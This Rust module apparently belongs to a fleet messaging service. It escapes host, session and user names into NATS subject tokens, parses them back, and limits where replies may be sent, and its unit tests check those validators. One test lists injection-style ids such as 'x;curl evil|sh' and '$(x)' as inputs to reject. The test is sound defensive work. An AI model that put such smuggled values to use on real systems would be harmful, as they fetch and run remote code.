//! Subjects of the fleet, and the names in them. Pure.
//!
//! A host, a session and a user is each one token of a subject. A character with a meaning in a subject, or outside ASCII, is
//! written as `~XX` for each of its bytes.

use std::fmt::Write as _;

/// Stream of the events of all hosts.
pub(super) const EVENTS_STREAM: &str = "CSHIM_EV";

/// Stream of the answers that wait for their host.
pub(super) const LATER_STREAM: &str = "CSHIM_LATER";

/// Bucket with one document for each host.
pub(super) const HOSTS_BUCKET: &str = "cshim_hosts";

/// Bucket with the pending requests of each host.
pub(super) const PENDING_BUCKET: &str = "cshim_pending";

/// The subjects of all events.
pub(super) const ALL_EVENTS: &str = "cshim.ev.>";

/// The subjects of all answers that wait.
pub(super) const ALL_LATER: &str = "cshim.later.>";

/// Whether a question changes something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    Read,
    Write,
}

impl Mode {
    pub fn name(self) -> &'static str {
        match self {
            Mode::Read => "read",
            Mode::Write => "write",
        }
    }
}

/// Whether an id can stand in a path, in a command line and on a screen as it is. All ids that a host gives can.
pub fn is_plain_id(id: &str) -> bool {
    (1..=128).contains(&id.len()) && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
}

/// A name as one token of a subject.
pub(super) fn token(name: &str) -> String {
    let mut token = String::with_capacity(name.len());
    for byte in name.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_' | b'-' => token.push(char::from(byte)),
            other => {
                // Writing to a string never fails.
                let _ = write!(token, "~{other:02X}");
            }
        }
    }
    token
}

/// How the permissions of the server write a name; `None` if they write the name itself.
pub fn in_permissions(name: &str) -> Option<String> {
    let token = token(name);
    (token != name).then(|| format!("the server's permissions write `{name}` as `{token}`"))
}

/// The name that [`token`] made a token of; `None` if it makes no such token.
pub fn name_of(text: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let [first, after @ ..] = rest {
        rest = after;
        if *first == b'~' {
            let digits = std::str::from_utf8(rest.get(..2)?).ok()?;
            bytes.push(u8::from_str_radix(digits, 16).ok()?);
            rest = &rest[2..];
        } else {
            bytes.push(*first);
        }
    }
    let name = String::from_utf8(bytes).ok()?;
    (!name.is_empty() && token(&name) == text).then_some(name)
}

/// The subject of a session's events.
pub(super) fn events_of(host: &str, session: &str) -> String {
    format!("cshim.ev.{}.{}", token(host), token(session))
}

/// The subjects of a host's events.
pub(super) fn events_of_host(host: &str) -> String {
    format!("cshim.ev.{}.>", token(host))
}

/// The subject of a user's questions to a host.
pub(super) fn question(host: &str, mode: Mode, user: &str) -> String {
    format!("cshim.req.{}.{}.{}", token(host), mode.name(), token(user))
}

/// The subjects of all questions to a host.
pub(super) fn questions_of_host(host: &str) -> String {
    format!("cshim.req.{}.>", token(host))
}

/// The subject of a user's answers that wait for a host.
pub(super) fn later(host: &str, user: &str) -> String {
    format!("cshim.later.{}.{}", token(host), token(user))
}

/// The subjects of all answers that wait for a host.
pub(super) fn later_of_host(host: &str) -> String {
    format!("cshim.later.{}.>", token(host))
}

/// The subject of a host's key in a bucket.
pub(super) fn key(bucket: &str, host: &str) -> String {
    format!("$KV.{bucket}.{}", token(host))
}

/// The subjects of all keys of a bucket.
pub(super) fn keys(bucket: &str) -> String {
    format!("$KV.{bucket}.>")
}

/// The stream behind a bucket.
pub(super) fn stream_of(bucket: &str) -> String {
    format!("KV_{bucket}")
}

/// The beginning of the subjects on which a user receives replies.
pub(super) fn inbox(user: &str) -> String {
    format!("_INBOX.{}", token(user))
}

/// Beginning of the reply subjects that the server makes for a question from another account. Only the server can resolve them.
const MAPPED_REPLY: &str = "_R_";

/// Whether a user may receive a reply on this subject. A reply elsewhere would be published in the host's name: to a stream, to
/// the API of JetStream or to another user.
pub(super) fn is_reply_to(reply: &str, user: &str) -> bool {
    let is_plain =
        |token: &str| !token.is_empty() && token.bytes().all(|byte| byte.is_ascii_graphic() && !b"*>".contains(&byte));
    let below = |beginning: &str| {
        let rest = reply.strip_prefix(beginning).and_then(|rest| rest.strip_prefix('.'));
        rest.is_some_and(|rest| rest.split('.').all(is_plain))
    };
    below(&inbox(user)) || below(MAPPED_REPLY)
}

/// The mode and the sender of a question. The server has admitted the subject only to that user.
pub(super) fn asked_by(subject: &str, host: &str) -> Option<(Mode, String)> {
    let rest = subject.strip_prefix("cshim.req.")?.strip_prefix(&token(host))?.strip_prefix('.')?;
    let (mode, user) = rest.split_once('.')?;
    let mode = [Mode::Read, Mode::Write].into_iter().find(|known| known.name() == mode)?;
    Some((mode, name_of(user)?))
}

/// The host and the session of an event. The server has admitted the subject only to that host.
pub(super) fn event_of(subject: &str) -> Option<(String, String)> {
    let (host, session) = subject.strip_prefix("cshim.ev.")?.split_once('.')?;
    Some((name_of(host)?, name_of(session)?))
}

/// The host whose key of a bucket it is. The server has admitted the subject only to that host.
pub(super) fn host_of_key(subject: &str, bucket: &str) -> Option<String> {
    name_of(subject.strip_prefix("$KV.")?.strip_prefix(bucket)?.strip_prefix('.')?)
}

/// The user who has left an answer for later.
pub(super) fn left_by(subject: &str, host: &str) -> Option<String> {
    name_of(subject.strip_prefix("cshim.later.")?.strip_prefix(&token(host))?.strip_prefix('.')?)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn ids_that_a_shell_would_read_are_not_plain() {
        for id in ["s", "0123456789ab-7.2", "0123456789ab-h.00ff", "01a2188d-5850-7540-93fd-d1ac9bd997e1"] {
            assert!(is_plain_id(id), "{id}");
        }
        for id in ["", "x;curl evil|sh", "$(x)", "a b", "a\nb", "a/b", "ä", &"a".repeat(129)] {
            assert!(!is_plain_id(id), "{id}");
        }
    }

    #[test]
    fn tokens_have_no_meaning_in_subjects() {
        let check = |name: &str, expect: &str| {
            assert_eq!(token(name), expect);
            assert_eq!(name_of(expect).as_deref(), Some(name));
        };
        check("build-7", "build-7");
        check("a.b", "a~2Eb");
        check("*", "~2A");
        check("a b>~", "a~20b~3E~7E");
        check("ä", "~C3~A4");
    }

    #[test]
    fn only_names_that_differ_in_permissions_are_told() {
        assert_eq!(in_permissions("build-7"), None);
        assert_eq!(in_permissions("a.b").as_deref(), Some("the server's permissions write `a.b` as `a~2Eb`"));
    }

    #[test]
    fn other_texts_are_not_tokens() {
        for wrong in ["", "a.b", "~", "~2", "~2e", "~41", "~C3", "a b", "~+1", "*", ">"] {
            assert_eq!(name_of(wrong), None, "{wrong}");
        }
    }

    #[test]
    fn questions_name_their_user() {
        let check = |subject: &str, expect: Option<(Mode, &str)>| {
            let found = asked_by(subject, "h.1");
            assert_eq!(found.as_ref().map(|(mode, user)| (*mode, &**user)), expect, "{subject}");
        };
        check("cshim.req.h~2E1.read.ann", Some((Mode::Read, "ann")));
        check("cshim.req.h~2E1.write.a~40b", Some((Mode::Write, "a@b")));
        check("cshim.req.h~2E1.erase.ann", None);
        check("cshim.req.h~2E1.read.ann.x", None);
        check("cshim.req.h~2E1.read", None);
        check("cshim.req.h~2E1.read.", None);
        check("cshim.req.h~2E12.read.ann", None);
        check("cshim.req.h.1.read.ann", None);
        assert_eq!(left_by(&later("h.1", "a@b"), "h.1").as_deref(), Some("a@b"));
    }

    #[test]
    fn events_and_keys_name_their_host() {
        let named = |host: &str, session: &str| Some((host.to_owned(), session.to_owned()));
        assert_eq!(event_of(&events_of("h.1", "a b")), named("h.1", "a b"));
        for wrong in ["cshim.ev.h", "cshim.ev.h.s.t", "cshim.ev..s", "cshim.ev.h.", "cshim.req.h.s", "cshim.ev.h.~41"] {
            assert_eq!(event_of(wrong), None, "{wrong}");
        }
        assert_eq!(host_of_key(&key("b", "h.1"), "b").as_deref(), Some("h.1"));
        for wrong in ["$KV.b.", "$KV.b.h.1", "$KV.bb.h", "$KV.c.h", "h"] {
            assert_eq!(host_of_key(wrong, "b"), None, "{wrong}");
        }
    }

    #[test]
    fn replies_go_only_to_inbox_of_user() {
        let check = |reply: &str, expect: bool| assert_eq!(is_reply_to(reply, "ann"), expect, "{reply}");
        check("_INBOX.ann.x", true);
        check("_INBOX.ann.x.1", true);
        check("_INBOX.ann", false);
        check("_INBOX.ann.", false);
        check("_INBOX.ann..x", false);
        check("_INBOX.ann.*", false);
        check("_INBOX.ann.>", false);
        check("_INBOX.anna.x", false);
        check("_INBOX.bob.x", false);
        check("_INBOX.x", false);
        check("$JS.API.STREAM.DELETE.CSHIM_EV", false);
        check("cshim.req.h.write.ann", false);
        check("_R_.Ya1.x", true);
        check("_R_", false);
        check("_R_x.y", false);
        check("", false);
    }

    proptest! {
        #[test]
        fn whatever_was_written_is_read_back(name in "\\PC{1,40}") {
            let token = token(&name);
            prop_assert!(token.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-~".contains(&byte)));
            prop_assert_eq!(name_of(&token), Some(name));
        }
    }
}
